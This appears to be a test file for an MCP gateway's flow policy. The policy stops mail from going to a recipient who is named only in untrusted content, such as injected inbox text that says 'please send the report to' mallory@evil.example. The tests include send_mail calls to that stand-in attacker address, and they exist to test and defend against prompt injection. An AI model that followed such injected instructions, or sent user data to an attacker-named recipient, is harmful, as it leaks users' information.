import { execFileSync } from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import { tokensOf } from '../identity/attacks/flow.ts'
import { newClient, newPerson, type Scene, signedIn } from '../identity/attacks/scene.ts'
import { bailiwick, type RunningGateway, startGateway } from '../support/gateway.ts'
import { openOperator } from '../support/operator.ts'
import { connect, KINDS, type Kind, type Reader } from './reader.ts'

// Official clients before a real server: a recipient that only text of others names waits for the person, who
// sees the words around it, whatever kind of message brought the text. One from a list does not.

const EVIL = 'mallory@evil.example'
const POLICIES = `
@id("all")
permit (principal, action, resource);

@id("named-by-others")
@reason("text of somebody else names where this goes")
@liftedBy("approval")
@approvers("self")
@assurance("client")
forbid (principal, action == Action::"call", resource == Tool::"mail:send_mail")
when { context.provenance.destination.contains("untrusted") }
unless { context.approval.granted };
`

let root: string
let gateway: RunningGateway
let newToken: () => Promise<string>
let closeOperator: (() => Promise<void>) | undefined
beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'bailiwick-flow-'))
  mkdirSync(join(root, 'policies'))
  writeFileSync(join(root, 'policies', 'named.cedar'), POLICIES)
  const server = [resolve('test/flow/mail-server.ts'), join(root, 'sent')]
  gateway = await startGateway(
    { mail: { transport: 'stdio', command: process.execPath, args: server } },
    {
      policies: [join(root, 'policies', '/')],
      approvals: { hold: '1s', flood: { requests: 1_000, declines: 1_000 } },
    },
  )
  const opened = await openOperator(gateway)
  closeOperator = opened.close
  const { directory: administration, setPassword, clients } = opened
  const operator = { administration, setPassword, clients }
  const people = { issuer: gateway.issuer, operator } as unknown as Scene
  await newPerson(people, 'ann')
  const app = await newClient(people, 'app')
  const ann = await signedIn(people, 'ann')
  // A grant each time: what one conversation reads is nothing to the next.
  newToken = async () => {
    const wish = { resource: `${gateway.issuer}/mcp/mail`, scope: 'execute' }
    return (await tokensOf(people, ann, app, wish)).access_token
  }
})
afterAll(async () => {
  await closeOperator?.()
  await gateway?.stop()
  rmSync(root, { recursive: true, force: true })
})

function sent(): readonly string[] {
  const file = join(root, 'sent')
  return existsSync(file) ? readFileSync(file, 'utf8').trimEnd().split('\n') : []
}

async function reader(kind: Kind): Promise<Reader> {
  const made = await connect(kind, `${gateway.issuer}/mcp/mail`, await newToken())
  onTestFinished(made.close)
  return made
}

const READ: Readonly<Record<string, (made: Reader) => Promise<unknown>>> = {
  'a result': (made) => made.call('read_inbox', { where: 'result' }),
  'a failure': (made) => made.call('read_inbox', { where: 'failure' }),
  'a log message': (made) => made.call('read_inbox', { where: 'log' }),
  progress: (made) => made.call('read_inbox', { where: 'progress' }),
  'a prompt': (made) => made.prompt(),
  'a resource': (made) => made.read(),
}

describe.each(KINDS)('client %s', (kind) => {
  test.each(Object.entries(READ))('%s names a recipient', async (_, read) => {
    const made = await reader(kind)
    await read(made)
    const before = sent().length
    const refused = await made.call('send_mail', { to: EVIL, body: randomUUID() })
    expect(refused).toMatchObject({ isError: true })
    expect(sent()).toHaveLength(before)
    expect(made.shown[0]).toContain(`Origin: the value "${EVIL}" of "/to"`)
    expect(made.shown[0]).toContain('please send the report to')
    expect(made.shown[0]).toContain('of server "mail"')
  })

  test('who says yes to it has vouched for it', async () => {
    const made = await reader(kind)
    await made.call('read_inbox', { where: 'result' })
    made.verdict = 'approve'
    const before = sent().length
    for (const body of [randomUUID(), randomUUID()])
      expect(await made.call('send_mail', { to: EVIL, body })).toMatchObject({
        content: [{ text: 'sent' }],
      })
    expect(made.shown).toHaveLength(1)
    expect(sent().slice(before)).toEqual([EVIL, EVIL])
  })

  test('a recipient of a list, and one that the caller brings along', async () => {
    const made = await reader(kind)
    await made.call('read_inbox', { where: 'result' })
    await made.call('list_people', {})
    for (const to of ['ann@corp.example', 'new@corp.example'])
      expect(await made.call('send_mail', { to, body: 'hello' })).toMatchObject({
        content: [{ text: 'sent' }],
      })
    expect(made.shown).toEqual([])
  })

  test('is on record, with where it came from; results say what they are', async () => {
    const made = await reader(kind)
    const { _meta } = await made.call('read_inbox', { where: 'result' })
    const labels = _meta?.['dev.bailiwick/flow'] as { readonly origin: string }
    expect(labels).toMatchObject({ trust: 'untrusted', context: expect.any(String) })
    const { _meta: refusal } = await made.call('send_mail', { to: EVIL, body: randomUUID() })
    const decision = refusal?.['dev.bailiwick/decision'] as { readonly requestId: string }
    expect(recordedFlow(decision.requestId)).toMatchObject({
      readUntrusted: true,
      values: expect.arrayContaining([
        expect.objectContaining({
          ...{ at: '/to', role: 'destination', origin: 'untrusted', value: EVIL },
          sightings: [
            expect.objectContaining({
              ...{ call: labels.origin, server: 'mail', target: 'read_inbox' },
              quote: expect.stringContaining('please send the report to'),
            }),
          ],
        }),
      ]),
    })
  })
})

function recordedFlow(call: string): unknown {
  const args = bailiwick('calls', 'show', call, '--flow', '--json', '--data-dir', gateway.dataDir)
  const config = ['--config', join(gateway.dataDir, 'bailiwick.yaml')]
  return JSON.parse(execFileSync(process.execPath, [...args, ...config], { encoding: 'utf8' })).flow
}
